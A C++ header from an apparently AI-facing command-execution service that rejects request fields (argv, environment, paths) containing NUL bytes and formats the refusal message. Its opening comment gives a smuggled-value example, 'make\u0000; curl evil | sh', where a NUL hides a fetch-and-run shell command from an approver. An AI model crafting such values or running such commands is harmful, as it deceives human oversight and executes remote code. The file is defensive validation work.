// c_strings.h: request fields that end up as C strings (argv, the environment, paths) may not
// hold a NUL byte.
//
// execve, chdir and open read NUL-terminated strings, so `"/bin/echo\u0000x"` would run
// /bin/echo, and `"make\u0000; curl evil | sh"` would be shown to an approver whole and run
// cut. Front doors refuse such a field when they decode the request (-32602 over the native
// protocol, an error result over MCP) rather than let it be cut silently; pty::spawn refuses
// one too, for any caller that did not check.
#pragma once

#include <initializer_list>
#include <optional>
#include <string>

#include <fmt/core.h>
#include <nlohmann/json.hpp>

namespace uexec::rpc {

namespace detail {

// The path of the first string under `v` (object keys included) that holds a NUL.
inline std::optional<std::string> nul_under(const nlohmann::json& v, const std::string& path) {
  if (v.is_string())
    return v.get_ref<const std::string&>().find('\0') == std::string::npos ? std::nullopt
                                                                            : std::optional<std::string>(path);
  if (v.is_array()) {
    for (std::size_t i = 0; i < v.size(); ++i)
      if (auto p = nul_under(v[i], fmt::format("{}[{}]", path, i))) return p;
  } else if (v.is_object()) {
    for (auto it = v.begin(); it != v.end(); ++it) {
      if (it.key().find('\0') != std::string::npos) return path + " (a key)";
      if (auto p = nul_under(it.value(), path + "." + it.key())) return p;
    }
  }
  return std::nullopt;
}

}  // namespace detail

// The first of `fields` of `params` holding a NUL byte anywhere (in a string, an array element,
// an object key or value), named as "argv[0]" or "env.NAME"; nullopt when none does.
inline std::optional<std::string> field_with_nul(const nlohmann::json& params, std::initializer_list<const char*> fields) {
  if (!params.is_object()) return std::nullopt;
  for (const char* f : fields)
    if (auto it = params.find(f); it != params.end())
      if (auto p = detail::nul_under(*it, f)) return p;
  return std::nullopt;
}

// The refusal's text, the same at every front door.
inline std::string nul_field_message(const std::string& field) {
  return fmt::format("invalid value for `{}`: contains a NUL byte (argv, environment and paths are C strings)", field);
}

}  // namespace uexec::rpc
